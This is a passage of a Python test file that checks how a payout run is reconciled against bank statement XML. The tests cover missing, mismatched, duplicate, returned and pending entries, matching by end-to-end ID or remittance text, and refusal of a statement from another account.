        assert outcome.missing == outcome.mismatched == outcome.returned == outcome.unexpected == ()

    @pytest.mark.parametrize("version", STATEMENT_VERSIONS)
    def test_one_missing_one_unexpected_and_one_wrong_amount_are_reported(self, version):
        paid, short, forgotten, also_paid = payout(1, 150_000), payout(2, 98_765), payout(3, 5_000), payout(4, 42)
        settled = run(paid, short, forgotten, also_paid)
        xml = statement_xml(
            [
                booked(paid),
                booked(short, amount=98_700),
                booked(7_777, end_to_end_id=uuid.UUID(int=12345).hex, remittance="¿de quién?"),
                booked(also_paid),
                booked(1_000_000, indicator="CRDT", end_to_end_id=None, msg_id=None, pmt_inf_id=None),
            ],
            version=version,
        )
        outcome = reconcile(settled, read_statement(xml))
        assert not outcome.complete
        assert [m.payout for m in outcome.matched] == [paid, also_paid]
        assert outcome.missing == (forgotten,)
        assert [(m.payout, m.entry.amount) for m in outcome.mismatched] == [(short, 98_700)]
        assert [(e.amount, e.end_to_end_id) for e in outcome.unexpected] == [(7_777, uuid.UUID(int=12345).hex)]
        # The programme's funding is not the run's business: reported apart, not as a fault.
        assert [(e.amount, e.credit_debit) for e in outcome.unrelated] == [(1_000_000, "CRDT")]
        assert outcome.returned == ()

    def test_a_wrong_currency_is_a_mismatch(self):
        settled = run(payout(1, 150_000))
        outcome = reconcile(settled, read_statement(statement_xml([booked(payout(1, 150_000), currency="USD")])))
        assert [m.entry.currency for m in outcome.mismatched] == ["USD"]

    def test_a_payout_debited_twice_shows_the_second_debit_as_unexpected(self):
        settled = run(payout(1))
        outcome = reconcile(settled, read_statement(statement_xml([booked(payout(1)), booked(payout(1))])))
        assert len(outcome.matched) == 1 and len(outcome.unexpected) == 1
        assert not outcome.complete

    def test_money_back_under_a_payout_id_is_a_return(self):
        settled = run(payout(1), payout(2))
        xml = statement_xml([booked(p) for p in settled.payouts] + [booked(payout(2), indicator="CRDT")])
        outcome = reconcile(settled, read_statement(xml))
        assert [m.payout for m in outcome.returned] == [payout(2)]
        assert not outcome.complete

    def test_a_pending_entry_does_not_settle_a_payout(self):
        settled = run(payout(1))
        outcome = reconcile(settled, read_statement(statement_xml([booked(payout(1), status="PDNG")])))
        assert outcome.missing == (payout(1),)

    def test_without_an_end_to_end_id_the_remittance_text_identifies_a_payout(self):
        settled = run(payout(1), payout(2))
        xml = statement_xml([booked(p, end_to_end_id="NOTPROVIDED") for p in settled.payouts])
        assert reconcile(settled, read_statement(xml)).complete

    def test_a_remittance_text_shared_by_two_payouts_identifies_neither(self):
        shared = "Liquidación Carnet 2026-03-01"
        settled = run(payout(1, remittance=shared), payout(2, remittance=shared))
        xml = statement_xml([booked(p, end_to_end_id=None) for p in settled.payouts])
        outcome = reconcile(settled, read_statement(xml))
        assert len(outcome.missing) == 2 and len(outcome.unexpected) == 2

    def test_an_end_to_end_id_echoed_in_capitals_still_matches(self):
        settled = run(payout(1))
        xml = statement_xml([booked(payout(1), end_to_end_id=payout(1).end_to_end_id.upper())])
        assert reconcile(settled, read_statement(xml)).complete

    def test_a_statement_of_another_account_is_refused(self):
        other = Account(iban=iban("HN", "BCMH00000000009999999999"))
        statement = read_statement(statement_xml([booked(payout(1))], accounts=(other,)))
        assert refused(reconcile, run(), statement).code == "statement_account_mismatch"

    def test_the_file_written_and_the_statement_read_back_agree(self):
        """The pain.001 the run wrote, booked one transaction per entry as asked, reconciles completely."""
        settled = run(*(payout(i, 1_000 * i + i) for i in range(1, 6)))
        n = ns("pain.001.001.09")
        written = ET.fromstring(build_credit_transfer(settled))
        entries = [
            booked(
                parse_amount(t.findtext("p:Amt/p:InstdAmt", namespaces=n), "HNL"),
                end_to_end_id=t.findtext("p:PmtId/p:EndToEndId", namespaces=n),
            )
            for t in written.iterfind("p:CstmrCdtTrfInitn/p:PmtInf/p:CdtTrfTxInf", n)
        ]
        outcome = reconcile(settled, read_statement(statement_xml(entries)))
        assert outcome.complete and len(outcome.matched) == 5
